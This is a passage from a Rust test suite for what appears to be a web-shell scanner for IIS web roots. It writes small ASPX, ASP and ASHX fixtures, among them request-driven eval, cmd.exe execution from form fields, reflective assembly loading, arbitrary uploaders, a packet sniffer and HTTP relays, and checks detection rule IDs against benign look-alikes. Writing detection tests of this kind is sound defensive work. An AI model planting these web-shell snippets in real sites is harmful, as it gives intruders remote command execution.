        r#"<%@ Page Language="C#" %><script runat="server">void Q(){ var c = new SqlConnection(ConfigurationManager.ConnectionStrings["main"].ConnectionString); new SqlCommand("select 1", c).ExecuteReader(); }</script>"#,
    );
    let r = scan_default(&t);
    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/up.aspx"), ["EXH-FY-012"]);
    assert_eq!(ids_for(&r, "inetpub/wwwroot/app/db.aspx"), ["EXH-FY-013"]);
    assert!(ids_for(&r, "inetpub/wwwroot/app/goodup.aspx").is_empty());
    assert!(ids_for(&r, "inetpub/wwwroot/app/gooddb.aspx").is_empty());
}

/// Rules for the idioms the first rule set missed (obfuscated JScript eval, VBScript/script-host
/// one-liners, hidden assembly loads, form-driven processes, recon sweeps, sniffers, module
/// shells, HTTP relays), each with a benign look-alike that must stay quiet. All fixtures are
/// written for these tests.
#[test]
fn second_wave_idioms_and_their_benign_look_alikes() {
    let t = Tree::new();
    let w = |name: &str, body: &str| {
        t.write(&format!("inetpub/wwwroot/app/{name}"), body);
    };
    // EXH-FY-014: JScript eval with a hidden security-context argument / context.Request / method argument.
    w(
        "js1.aspx",
        "<%@ Page Language=\"JScript\" %><% var k = Request[\"\\x7a\"]; var m = \"un\" + \"safe\"; eval (k, m); %>",
    );
    w(
        "js2.ashx",
        "<%@ WebHandler Language=\"JScript\" class=\"H\" %>import System.Web; public class H implements IHttpHandler { function IHttpHandler.ProcessRequest(ctx : HttpContext) { eval(ctx.Request[\"z\"]); } function get IHttpHandler.IsReusable() : Boolean { return false; } }",
    );
    w(
        "js3.asmx",
        "<%@ WebService Language=\"JScript\" class=\"S\" %>import System.Web.Services; public class S extends WebService { WebMethodAttribute function Run(code : String) : Void { eval(code); } }",
    );
    // Benign: JScript page with client-side eval of JSON and a DataBinder.Eval.
    w(
        "js_ok.aspx",
        "<%@ Page Language=\"JScript\" %><%# DataBinder.Eval(Container.DataItem, \"Name\") %><script type=\"text/javascript\">var o = eval(json);</script>",
    );
    // EXH-FY-015: VBScript execute of a request field, script control, WScript.Shell exec.
    w("vb1.asp", "<% execute request(\"p\") %>");
    w(
        "vb2.aspx",
        "<% Set sc = Server.CreateObject(\"MSScriptControl.ScriptControl\")\nsc.Language = \"VBScript\"\nsc.AddObject \"request\", Request\nsc.ExecuteStatement(\"x\") %>",
    );
    w(
        "vb3.aspx",
        "<%= CreateObject(\"WScript.Shell\").Exec(Request.Form(\"c\")).StdOut.ReadAll %>",
    );
    w(
        "drop.ashx",
        "<%@ WebHandler Language=\"C#\" Class=\"D\" %>public class D : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext c) { System.IO.File.WriteAllText(c.Server.MapPath(\"n.aspx\"), \"<%eval(Request.Item\" + \"[\\\"k\\\"]);%>\"); } public bool IsReusable { get { return false; } } }",
    );
    // Benign: a client-side AJAX executor method name and a server-side Execute of a local variable.
    w(
        "vb_ok.aspx",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Go(){ var q = new Query(); q.Execute(request); }</script><script>function Sys$Net$XMLHttpExecutor$executeRequest() { }</script>",
    );
    // EXH-FY-016: request bytes loaded directly, reflected Assembly.Load, XOR-decoded blob.
    w(
        "ld1.aspx",
        "<%@ Page Language=\"C#\" %><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength)).CreateInstance(\"Q\").Equals(this); %>",
    );
    w(
        "ld2.aspx",
        "<%@ Page Language=\"C#\" %><% var m = typeof(System.Reflection.Assembly).GetMethod(\"Load\", new System.Type[] { typeof(byte[]) }); %>",
    );
    w(
        "ld3.aspx",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(){ string k = \"q\"; byte[] b = {1,2,3}; for (int i = 0; i < b.Length; i++) b[i] ^= (byte)k[i % k.Length]; var a = System.Reflection.Assembly.Load(b); var o = a.CreateInstance(\"Q\"); o.GetType().GetMethod(\"Go\").Invoke(o, null); }</script>",
    );
    // Benign: a plugin page loading an assembly by name.
    w(
        "ld_ok.aspx",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(){ var a = System.Reflection.Assembly.Load(\"Contoso.Plugins\"); var t = a.GetType(\"Contoso.Plugins.Widget\"); Activator.CreateInstance(t); }</script>",
    );
    // EXH-FY-017: VB process from form boxes; program from the web folder.
    w(
        "pr1.aspx",
        "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Go(s As Object, e As EventArgs)\n Dim si As New ProcessStartInfo(prog.text)\n si.Arguments = args.text\n Process.Start(si)\nEnd Sub</script>",
    );
    w(
        "pr2.aspx",
        "<%@ Page Language=\"C#\" %><% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = Server.MapPath(\"t.exe\"); p.Start(); %>",
    );
    // Benign: a page that starts a fixed tool with a fixed argument.
    w(
        "pr_ok.aspx",
        "<%@ Page Language=\"C#\" %><% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = @\"C:\\Tools\\report.exe\"; p.StartInfo.Arguments = \"/daily\"; p.Start(); %>",
    );
    // EXH-FY-018: registry sweep over every hive; write-probe walk.
    w(
        "rc1.aspx",
        "<%@ Page Language=\"C#\" %><% var s = new System.Collections.Stack(); s.Push(Registry.ClassesRoot); s.Push(Registry.CurrentUser); s.Push(Registry.LocalMachine); s.Push(Registry.Users); while (s.Count > 0) { var k = (RegistryKey)s.Pop(); foreach (var n in k.GetValueNames()) Response.Write(n); } %>",
    );
    w(
        "rc2.aspx",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Walk(DirectoryInfo d){ foreach (var s in d.GetDirectories()) Walk(s); try { File.Create(d.FullName + \"\\\\probe\").Close(); File.Delete(d.FullName + \"\\\\probe\"); Response.Write(d.FullName); } catch {} }</script>",
    );
    // Benign: a settings page reading one key; a log page creating one file in its own folder.
    w(
        "rc_ok.aspx",
        "<%@ Page Language=\"C#\" %><% var k = Registry.LocalMachine.OpenSubKey(@\"SOFTWARE\\Contoso\"); Response.Write(k.GetValue(\"Version\")); File.Create(Server.MapPath(\"~/App_Data/log.txt\")).Close(); %>",
    );
    // EXH-FY-019: raw socket in receive-all mode.
    w(
        "sn.aspx",
        "<%@ Page Language=\"C#\" %><% var s = new Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP); s.Bind(new IPEndPoint(IPAddress.Parse(ip.Text), 0)); s.IOControl(IOControlCode.ReceiveAll, new byte[] {1,0,0,0}, new byte[4]); %>",
    );
    // Benign: an ordinary TCP health check.
    w(
        "sn_ok.aspx",
        "<%@ Page Language=\"C#\" %><% var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(\"db01\", 1433); s.Close(); %>",
    );
    // EXH-FY-026: a module in App_Code hooking BeginRequest and starting processes from form fields.
    w(
        "App_Code/Hook.cs",
        "using System.Web; public class Hook : IHttpModule { public void Init(HttpApplication a) { a.BeginRequest += (s, e) => { var k = HttpContext.Current.Request.Form[\"k\"]; if (k != null) System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + k)); }; } public void Dispose() {} }",
    );
    // Benign: a module adding a security header on BeginRequest.
    w(
        "App_Code/Headers.cs",
        "using System.Web; public class Headers : IHttpModule { public void Init(HttpApplication a) { a.BeginRequest += (s, e) => { if (HttpContext.Current.Request.QueryString[\"lang\"] != null) HttpContext.Current.Response.AddHeader(\"X-Frame-Options\", \"DENY\"); }; } public void Dispose() {} }",
    );
    // EXH-FY-027: relays the request body to a URL named by the request.
    w(
        "rl.aspx",
        "<%@ Page Language=\"C#\" %><% var u = Request.Form[\"target\"]; var b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, b.Length); var q = (HttpWebRequest)WebRequest.Create(u); q.Method = \"POST\"; q.GetRequestStream().Write(b, 0, b.Length); Response.Write(new StreamReader(q.GetResponse().GetResponseStream()).ReadToEnd()); %>",
    );
    // Benign: a page calling a fixed web service.
    w(
        "rl_ok.aspx",
        "<%@ Page Language=\"C#\" %><% var q = (HttpWebRequest)WebRequest.Create(\"https://api.contoso.com/rates\"); q.Method = \"POST\"; q.GetRequestStream().Write(new byte[0], 0, 0); var id = Request.QueryString[\"id\"]; %>",
    );
    // Extensions: ABPTTS-style session relay (FY-005), VB uploader and FileInfo writer (FY-012),
    // connection strings with a spliced-in password (FY-013).
    w(
        "ab.aspx",
        "<%@ Page Language=\"C#\" %><% var c = (Hashtable)Session[\"c\"]; var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Send(Convert.FromBase64String(Request.Params[\"d\"])); var buf = new byte[512]; s.Receive(buf); %>",
    );
    w(
        "up1.aspx",
        "<% If Request.Files.Count > 0 Then Request.Files(0).SaveAs(Server.MapPath(Request(\"n\"))) %>",
    );
    w(
        "up2.aspx",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Save(object s, EventArgs e){ System.IO.FileInfo f = new System.IO.FileInfo(path.Text); var sw = f.CreateText(); sw.Write(body.Text); sw.Close(); }</script>",
    );
    w(
        "db1.aspx",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Dump(){ string cs = \"server=\" + host + \";uid=\" + user + \";pwd=\" + pass; var c = new SqlConnection(cs); new SqlDataAdapter(sql, c).Fill(ds); }</script>",
    );
    // Benign: upload to a fixed folder with a generated name; connection string from configuration.
    w(
        "up_ok.aspx",
        "<% If Request.Files.Count > 0 Then Request.Files(0).SaveAs(Server.MapPath(\"~/uploads/\") & Guid.NewGuid().ToString()) %>",
    );
    w(
        "db_ok.aspx",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Q(){ var c = new SqlConnection(ConfigurationManager.ConnectionStrings[\"main\"].ConnectionString); new SqlDataAdapter(\"select 1\", c).Fill(ds); }</script>",
    );

    let r = scan_default(&t);
    let has = |name: &str, id: &str| {
        let ids = ids_for(&r, &format!("inetpub/wwwroot/app/{name}"));
        assert!(
            ids.contains(&id.to_string()),
            "{name}: expected {id}, got {ids:?}"
        );
    };
    let quiet = |name: &str| {
        let ids = ids_for(&r, &format!("inetpub/wwwroot/app/{name}"));
        assert!(ids.is_empty(), "{name}: expected no finding, got {ids:?}");
    };
    for (name, id) in [
        ("js1.aspx", "EXH-FY-014"),
        ("js2.ashx", "EXH-FY-014"),
        ("js3.asmx", "EXH-FY-014"),
        ("vb1.asp", "EXH-FY-015"),
        ("vb2.aspx", "EXH-FY-015"),
        ("vb3.aspx", "EXH-FY-015"),
        ("drop.ashx", "EXH-FY-015"),
        ("ld1.aspx", "EXH-FY-016"),
        ("ld2.aspx", "EXH-FY-016"),
        ("ld3.aspx", "EXH-FY-016"),
        ("pr1.aspx", "EXH-FY-017"),
        ("pr2.aspx", "EXH-FY-017"),
        ("rc1.aspx", "EXH-FY-018"),
        ("rc2.aspx", "EXH-FY-018"),
        ("sn.aspx", "EXH-FY-019"),
        ("App_Code/Hook.cs", "EXH-FY-026"),
        ("rl.aspx", "EXH-FY-027"),
        ("ab.aspx", "EXH-FY-005"),
        ("up1.aspx", "EXH-FY-012"),
        ("up2.aspx", "EXH-FY-012"),
        ("db1.aspx", "EXH-FY-013"),
    ] {
        has(name, id);
    }
    for name in [
        "js_ok.aspx",
        "vb_ok.aspx",
        "ld_ok.aspx",
        "pr_ok.aspx",
        "rc_ok.aspx",
        "sn_ok.aspx",
        "App_Code/Headers.cs",
        "rl_ok.aspx",
        "up_ok.aspx",
        "db_ok.aspx",
    ] {
        quiet(name);
    }
}

#[test]
fn file_coverage_spans_the_modification_times_read() {
    let t = Tree::new();
    t.write("inetpub/wwwroot/a.htm", "<html></html>")
        .write("inetpub/wwwroot/b.htm", "<html></html>");
    let at = |secs: u64| std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs);
    for (rel, secs) in [
        ("inetpub/wwwroot/a.htm", 1_614_738_000),
        ("inetpub/wwwroot/b.htm", 1_615_000_000),
    ] {
        let f = std::fs::File::options().write(true).open(t.c(rel)).unwrap();
        f.set_modified(at(secs)).unwrap();
    }
    let r = scan_default(&t);
    let cov = &r.hosts[0].coverage[&exhunt_core::SourceKind::Files];
    assert_eq!(cov.files, 2);
    assert_eq!(cov.first.unwrap().timestamp(), 1_614_738_000);
    assert_eq!(cov.last.unwrap().timestamp(), 1_615_000_000);
}

#[test]
fn user_rules_see_the_external_variables_of_each_file() {
    // Loki/THOR-style variables, set once per file on every scanner that reads it. The web
    // area's top folder is inetpub, so wwwroot/app is depth 2.
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(
        rules.path().join("vars.yar"),
        r#"rule Vars_Page {
    meta: score = 75
    strings: $m = "var-marker"
    condition: $m and filename == "p.aspx" and extension == ".aspx"
        and filepath == "\\inetpub\\wwwroot\\app" and exhunt_area == "web"
        and exhunt_depth == 2 and exhunt_webpage and not exhunt_stock
}
rule Vars_Script {
    meta: score = 75
    strings: $m = "var-marker"
    condition: $m and extension == ".js" and not exhunt_webpage
}"#,
    )
    .unwrap();
    let t = Tree::new();
    t.write("inetpub/wwwroot/app/p.aspx", "<%-- var-marker --%>")
        .write("inetpub/wwwroot/app/s.js", "// var-marker");
    let r = scan(
        &t,
        FileOptions {
            yara_paths: vec![rules.path().to_path_buf()],
            ..FileOptions::default()
        },
    );
    assert_eq!(
        ids_for(&r, "inetpub/wwwroot/app/p.aspx"),
        ["YARA:Vars_Page"]
    );
    assert_eq!(
        ids_for(&r, "inetpub/wwwroot/app/s.js"),
        ["YARA:Vars_Script"]
    );
}
